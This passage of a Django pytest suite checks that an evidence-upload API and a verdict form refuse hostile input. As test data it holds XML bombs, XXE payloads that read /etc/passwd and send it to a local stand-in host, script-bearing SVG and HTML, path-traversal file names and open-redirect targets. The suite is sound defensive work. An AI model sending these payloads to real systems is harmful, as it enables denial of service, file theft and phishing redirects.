        ("POST", "/tasks/FM-1%00/review/"),
        ("POST", "/tasks/FM-1%00/publish/"),
        ("POST", "/decisions/FM-D1%00/reject/"),
    ],
)
def test_a_nul_in_a_key_of_a_page_address_is_not_found(world, client, settings, method, path):
    client.force_login(world.flow.manager)
    client.raise_request_exception = False
    before = Snapshot.take(settings)

    response = client.generic(
        method, path, "verdict=reject&reason=r", "application/x-www-form-urlencoded"
    )

    assert response.status_code == 404
    before.assert_unchanged(settings)


# --- Uploads ----------------------------------------------------------------------------------


def multipart(fields=(), files=(), *, close: bool = True) -> bytes:
    """A multipart/form-data body built by hand, so names and bytes arrive exactly as written.

    ``files`` are ``(field, filename, content, content_type)``; a filename is sent raw (bytes
    as given, str as UTF-8), unlike the test client's encoder, which strips paths.
    """
    out = b""
    for name, value in fields:
        value = value if isinstance(value, bytes) else value.encode()
        out += (
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode()
            + value
            + b"\r\n"
        )
    for name, filename, content, content_type in files:
        filename = filename if isinstance(filename, bytes) else filename.encode()
        out += (
            f"--{BOUNDARY}\r\n".encode()
            + f'Content-Disposition: form-data; name="{name}"; filename="'.encode()
            + filename
            + f'"\r\nContent-Type: {content_type}\r\n\r\n'.encode()
            + content
            + b"\r\n"
        )
    if close:
        out += f"--{BOUNDARY}--\r\n".encode()
    return out


def upload_body(kind="log", content=b"one line\n", name="run.log", media="text/plain", **fields):
    return multipart([("kind", kind), *fields.items()], [("file", name, content, media)])


def post_upload(client, attempt, body: bytes, content_type: str = MULTIPART, **extra):
    """POST a raw body to an attempt's evidence (``attempt`` is a row or its id)."""
    return client.generic(
        "POST",
        f"/api/v1/attempts/{getattr(attempt, 'pk', attempt)}/evidence/",
        data=body,
        content_type=content_type,
        **extra,
    )


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<testsuite name="&lol9;"><testcase classname="t" name="&lol9;"/></testsuite>"""
QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "'
    + b"a" * 50_000
    + b'">]><testsuite><testcase classname="t" name="n"><failure message="'
    + b"&a;" * 5_000
    + b'"/></testcase></testsuite>'
)
XXE_FILE = b"""<?xml version="1.0"?><!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<testsuite><testcase classname="t" name="n"><failure message="&x;"/></testcase></testsuite>"""
XXE_HTTP = b"""<?xml version="1.0"?><!DOCTYPE t [<!ENTITY x SYSTEM "http://127.0.0.1:1/leak">]>
<testsuite><testcase classname="t" name="&x;"/></testsuite>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?><!DOCTYPE testsuite SYSTEM "http://127.0.0.1:1/x.dtd">
<testsuite><testcase classname="t" name="n"/></testsuite>"""
PLAIN_DTD = b"""<?xml version="1.0"?><!DOCTYPE testsuite [<!ELEMENT testsuite ANY>]>
<testsuite><testcase classname="t" name="n"/></testsuite>"""
PARAMETER_ENTITIES = b"""<?xml version="1.0"?><!DOCTYPE t [
 <!ENTITY % remote SYSTEM "http://127.0.0.1:1/evil.dtd"> %remote;
 <!ENTITY % file SYSTEM "file:///etc/passwd">
 <!ENTITY % wrap "<!ENTITY send SYSTEM 'http://127.0.0.1:1/?%file;'>"> %wrap;
]><testsuite><testcase classname="t" name="&send;"/></testsuite>"""
COVERAGE_XXE = b"""<?xml version="1.0"?><!DOCTYPE coverage [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<coverage line-rate="0.9">&x;</coverage>"""
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + struct.pack(">II", 1, 1) + b"\x08\x02\x00\x00\x00"


def xml_upload(content, kind="junit"):
    return upload_body(kind, content, "report.xml", "application/xml")


def typed(kind, content, name="evidence", media="application/octet-stream"):
    return upload_body(kind, content, name, media)


_LOG = upload_body("log", b"a line\n" * 200, "run.log")
_DIFF_UTF8 = b"--- a/x\n+++ b/x\n@@ -1 +1 @@\n-\xff\n+\xfe\n"
_DIFF_NUL = b"--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\x00\n+b\n"
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
_ONE_LOG = [("file", "run.log", b"x\n", "text/plain")]
_TOO_MANY_FILES = [("file", f"{n}.log", b"x\n", "text/plain") for n in range(101)]
_SMALL_UPLOADS = {"FACTORY_MAX_UPLOAD_BYTES": 1_000}

# One row per hostile upload: id, body, status, code, the field the error names, and what
# else the request needs (settings, another content type, a lying header).
# fmt: off
UPLOAD_ROWS = [
    # XML: DTDs and entities are refused before anything expands or is fetched
    ("billion-laughs", xml_upload(BILLION_LAUGHS), 400, "invalid", "file", {}),
    ("quadratic-blowup", xml_upload(QUADRATIC_BLOWUP), 400, "invalid", "file", {}),
    ("external-entity-file", xml_upload(XXE_FILE), 400, "invalid", "file", {}),
    ("external-entity-http", xml_upload(XXE_HTTP), 400, "invalid", "file", {}),
    ("external-dtd", xml_upload(EXTERNAL_DTD), 400, "invalid", "file", {}),
    ("internal-dtd", xml_upload(PLAIN_DTD), 400, "invalid", "file", {}),
    ("parameter-entities", xml_upload(PARAMETER_ENTITIES), 400, "invalid", "file", {}),
    ("coverage-external-entity", xml_upload(COVERAGE_XXE, "coverage"), 400, "invalid", "file", {}),
    # not what the declared kind says
    ("junit-root-html", xml_upload(b"<html><body/></html>"), 400, "invalid", "file", {}),
    ("junit-not-xml", xml_upload(b"all tests passed"), 400, "invalid", "file", {}),
    ("junit-utf8-invalid", xml_upload(b"<testsuite name='\xff'/>"), 400, "invalid", "file", {}),
    ("coverage-rate-nan", xml_upload(b'<coverage line-rate="NaN"/>', "coverage"), 400, "invalid", "file", {}),
    ("coverage-rate-2", xml_upload(b'<coverage line-rate="2"/>', "coverage"), 400, "invalid", "file", {}),
    ("coverage-rate-negative", xml_upload(b'<coverage line-rate="-0.5"/>', "coverage"), 400, "invalid", "file", {}),
    ("coverage-rate-inf", xml_upload(b'<coverage line-rate="inf"/>', "coverage"), 400, "invalid", "file", {}),
    ("coverage-rate-words", xml_upload(b'<coverage line-rate="most"/>', "coverage"), 400, "invalid", "file", {}),
    ("coverage-rate-missing", xml_upload(b"<coverage/>", "coverage"), 400, "invalid", "file", {}),
    ("coverage-count-words", xml_upload(b'<coverage line-rate="0.5" lines-valid="many"/>', "coverage"), 400, "invalid", "file", {}),
    ("coverage-root-testsuite", xml_upload(b'<testsuite line-rate="0.5"/>', "coverage"), 400, "invalid", "file", {}),
    ("screenshot-svg-with-script", typed("screenshot", _SVG, "shot.png", "image/png"), 400, "invalid", "file", {}),
    ("screenshot-html", typed("screenshot", b"<html><script>alert(1)</script></html>", "s.png"), 400, "invalid", "file", {}),
    ("screenshot-truncated-png", typed("screenshot", PNG[:12], "shot.png", "image/png"), 400, "invalid", "file", {}),
    ("diff-not-a-diff", typed("diff", b"I changed some files.\n", "c.diff"), 400, "invalid", "file", {}),
    ("diff-utf8-invalid", typed("diff", _DIFF_UTF8, "c.diff"), 400, "invalid", "file", {}),
    ("diff-nul", typed("diff", _DIFF_NUL, "c.diff"), 400, "invalid", "file", {}),
    ("json-utf8-invalid", typed("json", b'{"a": "\xff"}', "r.json"), 400, "invalid", "file", {}),
    ("json-not-json", typed("json", b"{'a': 1}", "r.json"), 400, "invalid", "file", {}),
    ("json-nested-100k-deep", typed("json", b"[" * 100_000, "r.json"), 400, "invalid", "file", {}),
    ("json-lone-surrogate-key", typed("json", b'{"\\ud800": 1}', "r.json"), 400, "invalid", "file", {}),
    ("log-nul", typed("log", b"text\x00binary\n", "run.log"), 400, "invalid", "file", {}),
    ("note-nul", typed("note", b"# note\x00\n", "n.md"), 400, "invalid", "file", {}),
    ("link-javascript", typed("link", b"javascript:alert(1)", "l.url"), 400, "invalid", "file", {}),
    ("link-two-urls", typed("link", b"https://a.example/\nhttps://b.example/", "l.url"), 400, "invalid", "file", {}),
    ("empty-file", typed("log", b"", "run.log"), 400, "invalid", "file", {}),
    # sizes
    ("one-byte-over-the-upload-limit", typed("log", b"x" * 1_001), 413, "too_large", None, {"settings": _SMALL_UPLOADS}),
    ("far-over-the-upload-limit", typed("log", b"x\n" * 50_000), 413, "too_large", None, {"settings": _SMALL_UPLOADS}),
    ("json-over-the-parse-limit", typed("json", b'{"a": "' + b"x" * 500 + b'"}', "r.json"), 413, "too_large", None, {"settings": {"FACTORY_MAX_PARSED_BYTES": 100}}),
    ("field-over-the-body-limit", upload_body(criteria="A" * 5_000), 413, "too_large", None, {"settings": {"DATA_UPLOAD_MAX_MEMORY_SIZE": 2_000}}),
    # the form
    ("kind-video", upload_body("video"), 400, "invalid", "kind", {}),
    ("kind-blank", upload_body(""), 400, "invalid", "kind", {}),
    ("kind-upper-case", upload_body("LOG"), 400, "invalid", "kind", {}),
    ("kind-nul", upload_body("log\x00"), 400, "invalid", "kind", {}),
    ("kind-missing", multipart([], _ONE_LOG), 400, "invalid", "kind", {}),
    ("file-missing", multipart([("kind", "log")]), 400, "invalid", "file", {}),
    ("file-as-a-plain-field", multipart([("kind", "log"), ("file", "not a file")]), 400, "invalid", "file", {}),
    ("file-name-empty", upload_body(name=""), 400, "invalid", "file", {}),
    ("file-name-dotdot", upload_body(name=".."), 400, "invalid", "file", {}),
    ("criteria-unknown", upload_body(criteria="AC-99"), 400, "invalid", "criteria", {}),
    ("criteria-one-unknown", upload_body(criteria="AC-1, AC-99"), 400, "invalid", "criteria", {}),
    ("criteria-nul", upload_body(criteria="AC\x00"), 400, "invalid", "criteria", {}),
    ("criteria-too-long", upload_body(criteria="A" * 500), 400, "invalid", "criteria", {}),
    # the envelope
    ("multipart-closing-boundary-cut", multipart([("kind", "log")], _ONE_LOG, close=False), 400, "invalid", "file", {}),
    ("multipart-cut-mid-file", _LOG[: len(_LOG) // 2], 400, "invalid", "file", {}),
    ("multipart-without-boundary", upload_body(), 400, "parse_error", None, {"content_type": "multipart/form-data"}),
    ("json-instead-of-multipart", b'{"kind": "log", "file": "x"}', 415, "unsupported_media_type", None, {"content_type": JSON}),
    ("content-length-understated", _LOG, 400, "invalid", "file", {"extra": {"CONTENT_LENGTH": "120"}}),
    ("content-length-over-the-limit", upload_body(), 413, "too_large", None, {"settings": _SMALL_UPLOADS, "extra": {"CONTENT_LENGTH": str(50 * 1024 * 1024)}}),
    ("content-length-negative", upload_body(), 400, "parse_error", None, {"extra": {"CONTENT_LENGTH": "-1"}}),
    ("content-length-not-a-number", upload_body(), 400, "parse_error", None, {"extra": {"CONTENT_LENGTH": "12abc"}}),
    ("too-many-fields", multipart([("kind", "log")] + [("criteria", "AC-1")] * 1_001, _ONE_LOG), 400, "parse_error", None, {}),
    ("too-many-files", multipart([("kind", "log")], _TOO_MANY_FILES), 400, "parse_error", None, {}),
]
# fmt: on


UPLOAD_CASES = [
    pytest.param(
        body,
        status,
        code,
        field_name,
        how,
        id=id_,
    )
    for id_, body, status, code, field_name, how in UPLOAD_ROWS
]


@pytest.mark.django_db
@pytest.mark.parametrize(("body", "status", "code", "field_name", "how"), UPLOAD_CASES)
def test_a_hostile_upload_is_refused_and_changes_nothing(
    world, api, settings, body, status, code, field_name, how
):
    for setting, value in how.get("settings", {}).items():
        setattr(settings, setting, value)
    before = Snapshot.take(settings)

    response = post_upload(
        world.client(api, "agent"),
        world.attempt,
        body,
        how.get("content_type", MULTIPART),
        **how.get("extra", {}),
    )

    assert_refused(response, status, code, field_name)
    before.assert_unchanged(settings)


def rfc2231(field_value: str) -> bytes:
    """A file part whose name comes as ``filename*=UTF-8''...`` (RFC 2231, percent-encoded)."""
    return (
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="kind"\r\n\r\nlog\r\n'
        f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename*=UTF-8''"
        f"{field_value}\r\nContent-Type: text/plain\r\n\r\nrfc 2231\n\r\n--{BOUNDARY}--\r\n"
    ).encode()


HOSTILE_NAMES = [
    pytest.param(upload_body(name="../../etc/passwd"), id="dotdot-slash"),
    pytest.param(upload_body(name="..\\..\\win.ini"), id="dotdot-backslash"),
    pytest.param(upload_body(name="a\x00b.log"), id="nul"),
    pytest.param(upload_body(name="/etc/passwd"), id="absolute"),
    pytest.param(upload_body(name="C:\\Windows\\win.ini"), id="drive"),
    pytest.param(upload_body(name="..&#x2F;..&#x2F;etc&#x2F;passwd"), id="html-entity-slash"),
    pytest.param(upload_body(name="a\tb\x1b[31m.log"), id="control-characters"),
    pytest.param(upload_body(name="\u202egol.exe"), id="right-to-left-override"),
    pytest.param(rfc2231("..%2F..%2Fetc%2Fpasswd"), id="rfc2231-encoded-slashes"),
    pytest.param(rfc2231("..%5C..%5Cwin.ini%00.log"), id="rfc2231-backslash-nul"),
]


@pytest.mark.django_db
@pytest.mark.parametrize("body", HOSTILE_NAMES)
def test_a_hostile_file_name_is_stored_as_a_plain_name_inside_the_store(
    world, api, settings, tmp_path, body
):
    stored_before = files_in(settings.MEDIA_ROOT)  # the world's own evidence
    response = post_upload(world.client(api, "agent"), world.attempt, body)

    assert response.status_code == 201, response.content[:500]
    evidence = Evidence.objects.get(pk=response.json()["id"])
    assert evidence.name == response.json()["name"]
    assert not set(evidence.name) & {"/", "\\", "\x00"}
    assert evidence.name.isprintable() and evidence.name not in ("", ".", "..")
    assert evidence.file.name == blob_name(evidence.sha256)
    blob = (Path(settings.MEDIA_ROOT) / evidence.file.name).resolve()
    assert blob.is_file()
    assert blob.is_relative_to((Path(settings.MEDIA_ROOT) / "evidence").resolve())
    assert files_in(settings.MEDIA_ROOT) - stored_before == {evidence.file.name}
    assert files_in(settings.FACTORY_UPLOAD_TEMP_DIR) == set()
    assert sorted(os.listdir(tmp_path)) in (["media"], ["media", "uploads"])
    download = world.client(api, "reviewer").get(f"/api/v1/evidence/{evidence.pk}/content/")
    assert not set(download["Content-Disposition"]) & {"/", "\\", "\x00"}


@pytest.mark.django_db
def test_a_log_that_is_not_utf8_is_kept_and_shown_with_replacement_characters(world, api, client):
    """Not refused, by design: logs come from tools in any encoding; the viewer replaces what
    is not UTF-8 (evidence.viewers.log_view), and the bytes are kept as they came."""
    content = b"caf\xe9 \xff\xfe failed\n"

    response = post_upload(world.client(api, "agent"), world.attempt, upload_body("log", content))

    assert response.status_code == 201, response.content[:500]
    client.force_login(world.flow.reviewer)
    page = client.get(f"/evidence/{response.json()['id']}/")
    assert page.status_code == 200
    assert "caf\ufffd \ufffd\ufffd failed" in page.content.decode()


JUNIT_WITH_BAD_TIME = (
    b'<testsuite name="s"><testcase classname="tests.test_a" name="test_one" time="soon">'
    b'<failure message="boom"/></testcase></testsuite>'
)


@pytest.mark.django_db
def test_a_junit_report_with_a_malformed_time_is_refused_or_still_rendered(
    world, api, settings, client
):
    before = Snapshot.take(settings)

    response = post_upload(
        world.client(api, "agent"), world.attempt, xml_upload(JUNIT_WITH_BAD_TIME)
    )

    if response.status_code == 400:
        assert_refused(response, 400, "invalid", "file")
        before.assert_unchanged(settings)
        return
    assert response.status_code == 201, response.content[:500]
    client.force_login(world.flow.reviewer)
    client.raise_request_exception = False
    assert client.get(f"/tasks/{world.task.key}/").status_code == 200
    assert client.get(f"/evidence/{response.json()['id']}/").status_code == 200


# --- Where a verdict form sends the reader ------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    "target",
    [
        "javascript:alert(1)",
        " javascript:alert(1)",
        "//evil.example/x",
        "https://evil.example/",
        "/\\evil.example/",
    ],
)
def test_a_verdict_form_never_redirects_to_a_hostile_next(world, client, target):
    client.force_login(world.flow.manager)

    response = client.post(
        f"/decisions/{world.decision.key}/reject/", {"reason": "no", "next": target}
    )

    assert (response.status_code, response["Location"]) == (
        302,
        f"/decisions/{world.decision.key}/",
    )
